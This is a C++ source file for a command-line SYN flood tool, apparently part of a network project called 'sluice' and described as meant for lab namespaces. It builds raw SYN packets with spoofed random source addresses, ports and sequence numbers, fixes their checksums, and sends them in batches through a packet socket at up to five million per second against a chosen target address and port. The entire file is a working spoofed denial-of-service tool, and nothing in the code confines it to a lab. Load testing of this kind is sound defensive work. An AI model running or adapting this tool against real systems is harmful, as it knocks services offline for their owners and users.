// SPDX-License-Identifier: BSD-3-Clause
// A SYN flood: SYNs of random sources, ports and numbers, at a steady rate, through a packet
// socket. For the lab's own namespaces.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <iostream>
#include <random>
#include <stdexcept>
#include <thread>

namespace sluice::tools {
namespace {

struct FloodOptions {
  std::string interface = "eth0";
  std::string mac;
  std::string to = "10.3.0.1";
  uint16_t port = 80;
  std::string from = "10.1.32.0";
  unsigned length = 19;
  uint32_t rate = 20'000;
  double seconds = 5;
  bool repeat = false;
  uint64_t seed = 1;
};

struct [[gnu::packed]] SynFrame {
  ether_header ethernet;
  iphdr ip;
  tcphdr tcp;
};

uint32_t add_words(const void* data, size_t bytes, uint32_t sum) {
  const auto* at = static_cast<const uint8_t*>(data);
  for (size_t i = 0; i < bytes; i += 2) {
    uint16_t word;
    std::memcpy(&word, at + i, 2);
    sum += word;
  }
  return sum;
}

uint16_t folded(uint32_t sum) {
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~sum);
}

in_addr_t address_of(const std::string& text) {
  in_addr address{};
  if (inet_pton(AF_INET, text.c_str(), &address) != 1) {
    throw std::invalid_argument("not an IPv4 address: " + text);
  }
  return address.s_addr;
}

class Flood {
 public:
  explicit Flood(const FloodOptions& options)
      : options_(options),
        random_(options.seed),
        first_(ntohl(address_of(options.from))),
        socket_(socket(AF_PACKET, SOCK_RAW, 0)) {
    if (socket_ < 0) fail("packet socket");
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = static_cast<int>(if_nametoindex(options.interface.c_str()));
    if (bind(socket_, reinterpret_cast<sockaddr*>(&to), sizeof(to)) != 0) fail("bind");
    make_template();
  }
  Flood(const Flood&) = delete;
  Flood& operator=(const Flood&) = delete;
  ~Flood() { close(socket_); }

  /// Returns how many were sent.
  uint64_t run() {
    using Clock = std::chrono::steady_clock;
    const auto begin = Clock::now();
    const auto total = static_cast<uint64_t>(options_.rate * options_.seconds);
    uint64_t sent = 0;
    while (sent < total) {
      const std::chrono::duration<double> passed = Clock::now() - begin;
      const auto due = std::min(total, static_cast<uint64_t>(passed.count() * options_.rate));
      while (sent < due) sent += send_some(due - sent);
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
    }
    return sent;
  }

 private:
  static constexpr uint64_t kBatch = 64;

  [[noreturn]] static void fail(const char* what) {
    throw std::runtime_error(std::string(what) + ": " + std::strerror(errno));
  }

  void make_template() {
    ifreq request{};
    options_.interface.copy(request.ifr_name, IFNAMSIZ - 1);
    if (ioctl(socket_, SIOCGIFHWADDR, &request) != 0) fail("interface");
    SynFrame frame{};
    std::memcpy(frame.ethernet.ether_shost, request.ifr_hwaddr.sa_data, ETH_ALEN);
    unsigned bytes[ETH_ALEN];
    if (std::sscanf(options_.mac.c_str(), "%x:%x:%x:%x:%x:%x", bytes, bytes + 1, bytes + 2,
                    bytes + 3, bytes + 4, bytes + 5) != ETH_ALEN) {
      throw std::invalid_argument("not a MAC address: " + options_.mac);
    }
    for (int i = 0; i < ETH_ALEN; ++i) {
      frame.ethernet.ether_dhost[i] = static_cast<uint8_t>(bytes[i]);
    }
    frame.ethernet.ether_type = htons(ETHERTYPE_IP);
    frame.ip.version = 4;
    frame.ip.ihl = 5;
    frame.ip.tot_len = htons(sizeof(iphdr) + sizeof(tcphdr));
    frame.ip.ttl = 64;
    frame.ip.protocol = IPPROTO_TCP;
    frame.ip.daddr = address_of(options_.to);
    frame.tcp.dest = htons(options_.port);
    frame.tcp.doff = 5;
    frame.tcp.syn = 1;
    frame.tcp.window = htons(64240);
    frames_.fill(frame);
  }

  void draw(SynFrame& frame) {
    // With `repeat` the same ones come round again, as from a tool that plays a list.
    if (options_.repeat && ++drawn_ % options_.rate == 0) random_.seed(options_.seed);
    const uint64_t number = random_();
    const uint32_t host = static_cast<uint32_t>(number) >> options_.length;
    frame.ip.saddr = htonl(first_ + host);
    frame.ip.id = static_cast<uint16_t>(number);
    frame.ip.check = 0;
    frame.ip.check = folded(add_words(&frame.ip, sizeof(iphdr), 0));
    frame.tcp.source = htons(static_cast<uint16_t>(1024 + (number >> 32) % 64512));
    frame.tcp.seq = static_cast<uint32_t>(random_());
    frame.tcp.check = 0;
    uint32_t sum = add_words(&frame.ip.saddr, 8, htons(IPPROTO_TCP) + htons(sizeof(tcphdr)));
    frame.tcp.check = folded(add_words(&frame.tcp, sizeof(tcphdr), sum));
  }

  uint64_t send_some(uint64_t wanted) {
    const auto count = static_cast<unsigned>(std::min(wanted, kBatch));
    std::array<mmsghdr, kBatch> messages{};
    std::array<iovec, kBatch> parts;
    for (unsigned i = 0; i < count; ++i) {
      draw(frames_[i]);
      parts[i] = {&frames_[i], sizeof(SynFrame)};
      messages[i].msg_hdr.msg_iov = &parts[i];
      messages[i].msg_hdr.msg_iovlen = 1;
    }
    const int sent = sendmmsg(socket_, messages.data(), count, 0);
    if (sent < 0 && errno != ENOBUFS && errno != EAGAIN) fail("sendmmsg");
    return sent < 0 ? 0 : static_cast<uint64_t>(sent);
  }

  const FloodOptions& options_;
  std::mt19937_64 random_;
  uint32_t first_;
  int socket_;
  uint64_t drawn_ = 0;
  std::array<SynFrame, kBatch> frames_;
};

}  // namespace
}  // namespace sluice::tools

int main(int argc, char** argv) {
  sluice::tools::FloodOptions options;
  CLI::App app{"synflood: SYNs of random sources, for the lab"};
  app.add_option("--interface", options.interface, "where they leave")->capture_default_str();
  app.add_option("--mac", options.mac, "whom they are sent to")->required();
  app.add_option("--to", options.to, "the VIP")->capture_default_str();
  app.add_option("--port", options.port, "and its port")->capture_default_str();
  app.add_option("--from", options.from, "network of the sources")->capture_default_str();
  app.add_option("--length", options.length, "its prefix length")
      ->capture_default_str()
      ->check(CLI::Range(1, 31));
  app.add_option("--rate", options.rate, "SYNs a second")
      ->capture_default_str()
      ->check(CLI::Range(1, 5'000'000));
  app.add_option("--seconds", options.seconds, "for so long")
      ->capture_default_str()
      ->check(CLI::Range(0.0, 600.0));
  app.add_flag("--repeat", options.repeat, "the same SYNs again each second");
  app.add_option("--seed", options.seed, "of the sources")->capture_default_str();
  CLI11_PARSE(app, argc, argv);
  try {
    std::cout << sluice::tools::Flood(options).run() << '\n';
    return 0;
  } catch (const std::exception& error) {
    std::cerr << "synflood: " << error.what() << '\n';
    return 2;
  }
}
